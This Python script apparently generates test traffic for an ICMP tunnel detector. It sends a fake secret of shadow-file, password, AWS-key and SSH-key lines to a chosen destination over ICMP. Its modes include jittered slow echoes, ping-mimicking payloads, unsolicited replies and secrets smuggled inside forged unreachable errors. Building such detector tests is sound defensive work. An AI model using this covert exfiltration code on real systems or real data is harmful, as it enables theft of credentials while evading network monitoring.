#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Data exfiltration over ICMP, the ways a tunnel detector must stop.

Run inside a test namespace; packets go through its IP stack (raw sockets:
its routes and neighbour table apply), so the source must be one of its
addresses (--src, else the kernel picks).
The family follows --dst. Every mode is bounded by --count.

  slow     one echo request every --min-gap..--max-gap seconds, one
           identifier, each carrying the next chunk of a secret
           (--kind text: lines of text; --kind encrypted: random bytes)
  mimicry  echo requests laid out like iputils ping (a 16-byte struct
           timeval, then the fill), the fill replaced by the secret as hex
           or base32 text (--fill), --rate per second, one identifier
  reply    unsolicited echo replies carrying text, --rate per second
  bulk     echo requests of --size random bytes, --rate per second
  smuggle  port-unreachable errors quoting a UDP datagram from
           --quoted-src to --quoted-dst, with the secret appended after it

Prints `sent N`.
"""

import argparse
import base64
import random
import socket
import struct
import time

from scapy.all import ICMP, IP, UDP, IPv6, ICMPv6DestUnreach, ICMPv6EchoReply  # noqa: E402
from scapy.all import ICMPv6EchoRequest, Raw  # noqa: E402

SECRET = (
    b"root:$6$Qx9d$kq1v7Yb3mZ:19000:0:99999:7:::\n"
    b"db_password=Correct-Horse-Battery-Staple-42\n"
    b"aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
    b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n"
) * 40


def is_v6(addr):
    return ":" in addr


def ip_layer(args):
    if is_v6(args.dst):
        return IPv6(src=args.src, dst=args.dst) if args.src else IPv6(dst=args.dst)
    return IP(src=args.src, dst=args.dst) if args.src else IP(dst=args.dst)


def echo(args, ident, seq, data, reply=False):
    if is_v6(args.dst):
        cls = ICMPv6EchoReply if reply else ICMPv6EchoRequest
        return ip_layer(args) / cls(id=ident, seq=seq, data=data)
    return ip_layer(args) / ICMP(type=0 if reply else 8, id=ident, seq=seq) / Raw(data)


class Sender:
    """IPv4: whole packets on an IPPROTO_RAW socket. IPv6: the ICMPv6
    message on an ICMPv6 raw socket bound to the source (the kernel writes
    the IPv6 header and the checksum)."""

    def __init__(self, args):
        self.dst = args.dst
        if is_v6(args.dst):
            self.sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
            if args.src:
                self.sock.bind((args.src, 0))
        else:
            self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def send(self, pkt):
        data = bytes(pkt[IPv6].payload) if is_v6(self.dst) else bytes(pkt)
        self.sock.sendto(data, (self.dst, 0))


def chunks(size):
    """The secret, `size` bytes at a time."""
    for i in range(0, len(SECRET), size):
        yield SECRET[i:i + size].ljust(size, b"\n")


def timeval():
    t = time.time()
    return struct.pack("<qq", int(t), int((t % 1) * 1e6))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["slow", "mimicry", "reply", "bulk", "smuggle"])
    ap.add_argument("--dst", required=True)
    ap.add_argument("--src")
    ap.add_argument("--count", type=int, default=10)
    ap.add_argument("--rate", type=float, default=10.0)
    ap.add_argument("--min-gap", type=float, default=1.0)
    ap.add_argument("--max-gap", type=float, default=2.0)
    ap.add_argument("--kind", choices=["text", "encrypted"], default="text")
    ap.add_argument("--fill", choices=["hex", "base32"], default="hex")
    ap.add_argument("--size", type=int, default=1400)
    ap.add_argument("--quoted-src")
    ap.add_argument("--quoted-dst")
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args()
    if not 1 <= args.count <= 10000:
        ap.error("--count must be 1..10000")
    rng = random.Random(args.seed)
    ident = rng.randrange(1, 0xFFFF)
    sock = Sender(args)
    source = chunks(40)
    sent = 0

    for seq in range(args.count):
        if args.mode == "slow":
            data = next(source) + next(source)[:16]  # 56 bytes, a ping's default size
            if args.kind == "encrypted":
                data = bytes(b ^ rng.randrange(256) for b in data)
            pkt = echo(args, ident, seq, data)
        elif args.mode == "mimicry":
            raw = next(source)
            text = raw.hex().encode() if args.fill == "hex" else base64.b32encode(raw)
            pkt = echo(args, ident, seq, timeval() + text[:40])
        elif args.mode == "reply":
            pkt = echo(args, ident, seq, next(source) + next(source)[:16], reply=True)
        elif args.mode == "bulk":
            pkt = echo(args, ident, seq, rng.randbytes(args.size))
        else:  # smuggle
            secret = next(source) * 5
            if is_v6(args.dst):
                quoted = IPv6(src=args.quoted_src, dst=args.quoted_dst, plen=16) / UDP(
                    sport=40000 + seq, dport=53, len=16) / Raw(b"\0" * 8)
                pkt = ip_layer(args) / ICMPv6DestUnreach(code=4) / Raw(bytes(quoted) + secret)
            else:
                quoted = IP(src=args.quoted_src, dst=args.quoted_dst, len=36) / UDP(
                    sport=40000 + seq, dport=53, len=16) / Raw(b"\0" * 8)
                pkt = ip_layer(args) / ICMP(type=3, code=3) / Raw(bytes(quoted) + secret)
        sock.send(pkt)
        sent += 1
        if seq + 1 < args.count:
            if args.mode == "slow":
                time.sleep(rng.uniform(args.min_gap, args.max_gap))
            else:
                time.sleep(1.0 / args.rate)
    print(f"sent {sent}")


if __name__ == "__main__":
    main()
